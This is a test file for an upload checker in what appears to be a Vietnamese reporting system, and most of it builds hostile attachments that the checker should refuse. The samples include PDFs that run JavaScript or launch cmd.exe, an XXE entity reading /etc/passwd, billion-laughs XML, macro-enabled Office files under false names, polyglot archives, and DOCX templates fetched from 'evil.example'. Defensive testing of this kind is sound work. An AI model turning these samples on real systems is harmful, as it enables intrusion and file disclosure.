import { deflateSync } from 'node:zlib';
import { checkAttachment } from '../../files/check-file';
import { DOCX_PARTS, docxWith, XLSX_PARTS, xlsxWith } from '../setup/office-file';
import { packZip } from '../setup/zip';

const bytes = (text: string) => Buffer.from(text, 'latin1');
const pdf = (catalog: string, more = '') =>
  bytes(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog ${catalog} >>\nendobj\n${more}trailer << /Root 1 0 R >>\n%%EOF\n`);

/** A PDF whose objects lie packed in a stream, as newer programs write them. */
function packedPdf(object: string): Buffer {
  const inside = deflateSync(Buffer.from(`9 0 ${object}`));
  const head = `%PDF-1.7\n2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${inside.length} >>\nstream\n`;
  return Buffer.concat([bytes(head), inside, bytes('\nendstream\nendobj\n')]);
}

function png(width: number, height: number): Buffer {
  const size = Buffer.alloc(8);
  size.writeUInt32BE(width, 0);
  size.writeUInt32BE(height, 4);
  return Buffer.concat([bytes('\x89PNG\r\n\x1a\n\0\0\0\rIHDR'), size, bytes('\x08\x02\0\0\0')]);
}

function jpg(width: number, height: number, between = ''): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt16BE(height, 0);
  size.writeUInt16BE(width, 2);
  return Buffer.concat([bytes(`\xff\xd8\xff\xe0\0\x04ab${between}\xff\xc2\0\x11\x08`), size, bytes('\x03\xff\xd9')]);
}

const relations = (type: string, target: string) =>
  `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const withRelation = (type: string, target: string, part = 'word/_rels/settings.xml.rels') =>
  docxWith([{ name: part, content: relations(type, target) }]);
const withXml = (content: string | Buffer) => docxWith([{ name: 'customXml/item1.xml', content }]);
const macroTypes = '<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>';
const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
const DTD = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>';

const REFUSED: [string, string, Buffer][] = [
  ['a PDF that runs JavaScript when opened', 'a.pdf', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
  ['a PDF that runs JavaScript when a page is turned', 'a.pdf', pdf('/AA << /O << /S/JavaScript/JS 5 0 R >> >>')],
  ['a PDF with JavaScript among its names', 'a.pdf', pdf('/Names << /JavaScript 4 0 R >>')],
  ['a PDF that hides the word JavaScript', 'a.pdf', pdf('/OpenAction << /S /J#61va#53cript /JS (1) >>')],
  ['a PDF with JavaScript in a packed object', 'a.pdf', packedPdf('<< /S /JavaScript /JS (app.alert(1)) >>')],
  ['a PDF that starts a program', 'a.pdf', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>')],
  ['a PDF that starts a program from a packed object', 'a.pdf', packedPdf('<< /S/Launch/Win<</F(cmd.exe)>> >>')],
  ['a PDF with a file inside', 'a.pdf', pdf('/Names << /EmbeddedFiles 4 0 R >>')],
  [
    'a PDF with a file as a stream',
    'a.pdf',
    pdf('', '3 0 obj\n<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj\n'),
  ],
  ['a PDF with a Flash film', 'a.pdf', pdf('', '3 0 obj << /Subtype /RichMedia >> endobj\n')],
  ['a PDF that fetches form data', 'a.pdf', pdf('/OpenAction << /S /ImportData /F (x.fdf) >>')],
  ['a web page by the name of a PDF', 'a.pdf', bytes('<html><script>alert(1)</script></html>')],
  ['a web page with a PDF’s head later on', 'a.pdf', bytes('<!-- %PDF-1.7 --><html></html>')],
  ['a program by the name of a PDF', 'a.pdf', bytes('MZ\x90\0')],
  ['a PostScript program', 'a.pdf', bytes('%!PS-Adobe-3.0\n(%stdout) (w) file')],
  ['EICAR by the name of a PDF', 'a.pdf', bytes(EICAR)],
  ['EICAR by the name of a DOCX', 'a.docx', bytes(EICAR)],
  ['an archive behind a PDF', 'a.pdf', Buffer.concat([pdf(''), docxWith()])],
  ['an archive behind a JPG', 'a.jpg', Buffer.concat([jpg(10, 10), packZip([{ name: 'a.exe', content: 'MZ' }])])],
  [
    'an archive behind a PNG, with a comment',
    'a.png',
    Buffer.concat([png(10, 10), packZip([{ name: 'a', content: '' }], { comment: bytes('x') })]),
  ],
  ['a DOCM by the name of a DOCX', 'a.docx', docxWith([{ name: 'word/vbaProject.bin', content: 'x' }])],
  ['a DOCM whose macros have another name', 'a.docx', docxWith([{ name: 'word/vbaData.xml', content: '<a/>' }])],
  [
    'an XLSM by the name of an XLSX',
    'a.xlsx',
    packZip([{ name: '[Content_Types].xml', content: macroTypes }, XLSX_PARTS[1]!]),
  ],
  ['an XLSX with macros of Excel 4', 'a.xlsx', xlsxWith([{ name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }])],
  ['a DOCX with ActiveX', 'a.docx', docxWith([{ name: 'word/activeX/activeX1.xml', content: '<a/>' }])],
  [
    'an XLSM behind a chart',
    'a.docx',
    docxWith([{ name: 'word/embeddings/a.xlsx', content: xlsxWith([{ name: 'xl/vbaProject.bin', content: 'x' }]) }]),
  ],
  ['a spreadsheet by the name of a DOCX', 'a.docx', xlsxWith()],
  ['a DOCX that reads a file by an entity', 'a.docx', withXml(DTD)],
  [
    'a DOCX with a billion laughs',
    'a.docx',
    withXml(`<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>`),
  ],
  [
    'an XLSX that reads a file by an entity of its list',
    'a.xlsx',
    packZip([{ ...XLSX_PARTS[0]!, content: `<!DOCTYPE a>${XLSX_PARTS[0]!.content}` }, XLSX_PARTS[1]!]),
  ],
  ['the same after a long comment', 'a.docx', withXml(`<!--${' '.repeat(200_000)}-->${DTD}`)],
  ['the same in UTF-16', 'a.docx', withXml(Buffer.from(`\ufeff${DTD}`, 'utf16le'))],
  ['a DOCX that fetches its template', 'a.docx', withRelation('attachedTemplate', 'https://evil.example/t.dotm')],
  ['the same from a share', 'a.docx', withRelation('attachedTemplate', 'file:///\\\\evil.example\\t.dotm')],
  ['the same with a hidden address', 'a.docx', withRelation('attachedTemplate', '&#104;ttps://evil.example/t.dotm')],
  [
    'a DOCX with an object of another server',
    'a.docx',
    withRelation('oleObject', 'mhtml:https://evil.example/a.html!x', 'word/_rels/document.xml.rels'),
  ],
  [
    'a DOCX with a frame of another server',
    'a.docx',
    withRelation('frame', '//evil.example/a', 'word/_rels/webSettings.xml.rels'),
  ],
  ['a PNG of fifty thousand by fifty thousand', 'a.png', png(50_000, 50_000)],
  ['a JPG of fifty thousand by fifty thousand', 'a.jpg', jpg(50_000, 50_000)],
  ['a PNG of a line that has no end', 'a.png', png(0x7fffffff, 1)],
  ['an SVG', 'a.svg', bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['an SVG by the name of a PNG', 'a.png', bytes('<svg xmlns="http://www.w3.org/2000/svg"/>')],
  ['a GIF by the name of a PNG', 'a.png', bytes('GIF89a/*')],
  ['a JPG by the name of a PNG', 'a.png', jpg(10, 10)],
  ['a PDF by the name of a JPG', 'a.jpg', pdf('')],
  ['an old DOC with a password or macros', 'a.docx', bytes('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1')],
  ['a shortcut', 'a.pdf', bytes('L\0\0\0\x01\x14\x02\0')],
  ['a plain archive', 'a.xlsx', packZip([{ name: 'a.txt', content: 'x' }])],
];

/** Taken, because refusing would hit honest reports; the file comes back inert (`w08-served-files`). */
const TAKEN: [string, string, Buffer][] = [
  ['a PDF that opens at its first page', 'a.pdf', pdf('/OpenAction [3 0 R /FitH null]')],
  ['a PDF with a link whose address ends in JS', 'a.pdf', pdf('/A << /S /URI /URI (https://gialai.example/JS) >>')],
  ['a JPG whose comment holds a web page', 'a.jpg', jpg(10, 10, '\xff\xfe\0\x1c<script>alert(1)</script>')],
  ['a scanned A3 page at 600 dots an inch', 'a.jpg', jpg(9_921, 7_016)],
  [
    'a DOCX with links people click',
    'a.docx',
    withRelation('hyperlink', 'https://gialai.gov.vn', 'word/_rels/document.xml.rels'),
  ],
  [
    'a DOCX with a template on its writer’s disk',
    'a.docx',
    withRelation('attachedTemplate', 'file:///C:\\Users\\Lan\\Normal.dotm'),
  ],
  [
    'a DOCX that speaks of entities',
    'a.docx',
    packZip([DOCX_PARTS[0]!, { ...DOCX_PARTS[1]!, content: '<w:t>&lt;!DOCTYPE html&gt;</w:t>' }]),
  ],
];

describe('W8: a file that would do something when it is opened', () => {
  it.each(REFUSED)('is refused with code and reason: %s', async (_, name, content) => {
    const checked = await checkAttachment(name, content);
    expect(checked).toMatchObject({
      ok: false,
      code: 'UPLOAD_TYPE',
      message: expect.stringContaining(`Tệp “${name}”`),
    });
  });

  it.each(TAKEN)('is not seen where there is none: %s', async (_, name, content) => {
    expect(await checkAttachment(name, content)).toMatchObject({ ok: true });
  });
});
